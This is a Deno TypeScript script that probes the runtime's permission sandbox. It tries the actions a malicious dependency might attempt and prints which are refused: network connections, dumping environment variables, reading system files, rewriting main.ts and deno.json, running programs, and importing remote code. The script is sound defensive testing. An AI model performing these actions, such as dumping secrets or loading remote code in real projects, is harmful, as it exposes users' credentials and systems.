/** Tries what a malicious dependency could try, and prints the outcome of each attempt. */

/** Prevents Deno from loading a module ahead of time. */
const hidden = (specifier: string) => [...specifier].join("");

const ATTEMPTS: Readonly<Record<string, () => unknown>> = {
  "another host": () => fetch("http://127.0.0.1:8080/"),
  "another port of a host that is named": () =>
    Deno.connect({ hostname: "metrics.avax.network", port: 22 }),
  "a door of its own": () =>
    Deno.listen({ hostname: "127.0.0.1", port: 0 }).close(),
  "another variable": () => Deno.env.get("HOME"),
  "all variables": () => Deno.env.toObject(),
  "a variable that is changed": () => Deno.env.set("HOME", "/tmp"),
  "a file of the machine": () => Deno.readTextFile("/etc/hostname"),
  "a file of the machine, as a module": () =>
    import(hidden("file:///etc/hostname"), { with: { type: "text" } }),
  "the source": () => Deno.readTextFile("main.ts"),
  "the source, to be changed": async () =>
    (await Deno.open("main.ts", { write: true })).close(),
  "the permissions, to be changed": async () =>
    (await Deno.open("deno.json", { write: true })).close(),
  "a file of its own": () => Deno.makeTempFile({ dir: Deno.args[0]! }),
  "a program": () => new Deno.Command("true").output(),
  "a library": () => Deno.dlopen("/no/such/library.so", {}),
  "the machine's name": () => Deno.hostname(),
  "code from elsewhere": () => import(hidden("https://code.test/x/y/z.js")),
  "code from its own machine": () =>
    import(hidden("http://127.0.0.1:8080/x.js")),
};

const REFUSAL = /^Requires .+ access/;

const outcomes: Record<string, "refused" | "let through"> = {};
for (const [name, attempt] of Object.entries(ATTEMPTS)) {
  outcomes[name] = "let through";
  try {
    await attempt();
  } catch (error) {
    if (error instanceof Error && REFUSAL.test(error.message)) {
      outcomes[name] = "refused";
    }
  }
}
// deno-lint-ignore no-console
console.log(JSON.stringify(outcomes));
